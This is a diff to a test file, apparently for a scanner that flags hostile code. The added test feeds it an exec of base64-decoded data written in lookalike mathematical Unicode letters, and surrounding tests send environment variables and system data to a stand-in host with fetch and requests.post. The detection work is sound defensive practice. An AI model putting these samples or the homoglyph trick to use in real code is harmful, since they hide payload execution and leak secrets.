@@ -35,6 +35,14 @@ requests.post("https://c.example.net", data=data)
   assert.deepEqual(kinds(text), ['system-facts-sent']);
 });
 
+test('letters in a mathematical dress are read as Python reads them', () => {
+  const [act] = acts('print("ｅｘ")\n𝚎𝚡𝚎𝚌(__𝚒𝚖𝚙𝚘𝚛𝚝__("base64").𝚋𝟼𝟺𝚍𝚎𝚌𝚘𝚍𝚎(x))\n');
+
+  assert.equal(act?.kind, 'decoded-execution');
+  assert.equal(act.start, 'print("ｅｘ")\n'.length);
+  assert.deepEqual(kinds('𝚎𝚡𝚎𝚌(atob(x));\n', 'javascript', 'a.js'), []);
+});
+
 test('one variable of the environment is not all of it', () => {
   const sent = (code: string) => kinds(`${code}\nfetch("https://c.example.net", { body });\n`, 'javascript', 'a.js');
   assert.deepEqual(sent('const env = process.env;\nconst body = JSON.stringify(env);'), ['environment-sent']);
